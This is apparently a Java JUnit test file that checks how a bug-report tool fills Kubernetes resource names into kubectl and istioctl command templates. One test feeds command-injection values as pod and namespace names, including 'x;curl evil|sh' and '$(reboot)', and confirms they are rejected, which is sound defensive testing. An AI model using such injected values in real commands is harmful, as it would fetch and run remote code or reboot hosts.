package io.bugreport.report.view;

import static org.assertj.core.api.Assertions.assertThat;

import io.bugreport.model.resource.ResourceId;
import org.junit.jupiter.api.Test;

class FilledTest {
  private static ResourceId id(String kind, String namespace, String name) {
    return new ResourceId("east", "", kind, namespace, name);
  }

  @Test
  void aPodsCommandsNameThePod() {
    assertThat(
            Filled.of(
                "    kubectl -n NAMESPACE logs POD -c CONTAINER\n    istioctl proxy-status POD.NAMESPACE",
                id("Pod", "shop", "cart-1")))
        .isEqualTo(
            "    kubectl -n shop logs cart-1 -c CONTAINER\n    istioctl proxy-status cart-1.shop");
  }

  @Test
  void aNameIsPutAfterItsOwnKindAlone() {
    var id = id("Deployment", "shop", "cart");
    assertThat(Filled.of("kubectl -n NAMESPACE rollout restart deployment NAME", id))
        .isEqualTo("kubectl -n shop rollout restart deployment cart");
    assertThat(Filled.of("kubectl -n NAMESPACE get secret NAME", id))
        .isEqualTo("kubectl -n shop get secret NAME");
    assertThat(Filled.of("kubectl -n NAMESPACE delete KIND NAME", id))
        .isEqualTo("kubectl -n shop delete deployment cart");
  }

  @Test
  void whereThePodIsNotKnownItsNamespaceIsNotEither() {
    assertThat(
            Filled.of("istioctl proxy-status POD.NAMESPACE", id("VirtualService", "shop", "cart")))
        .isEqualTo("istioctl proxy-status POD.NAMESPACE");
  }

  @Test
  void proseStaysAsItIs() {
    assertThat(Filled.of("Give NAMESPACE a label.", id("Pod", "shop", "cart-1")))
        .isEqualTo("Give NAMESPACE a label.");
    assertThat(Filled.of("kubectl -n NAMESPACE-OF-THE-PODS get pods", id("Pod", "shop", "cart-1")))
        .isEqualTo("kubectl -n NAMESPACE-OF-THE-PODS get pods");
  }

  @Test
  void aHostileNameDoesNotGetIntoACommand() {
    assertThat(
            Filled.of(
                "kubectl -n NAMESPACE delete pod POD", id("Pod", "shop;reboot", "x;curl evil|sh")))
        .isEqualTo("kubectl -n NAMESPACE delete pod POD");
    assertThat(Filled.of("kubectl -n NAMESPACE delete pod POD", id("Pod", "$(reboot)", "cart-1")))
        .isEqualTo("kubectl -n NAMESPACE delete pod cart-1");
  }
}
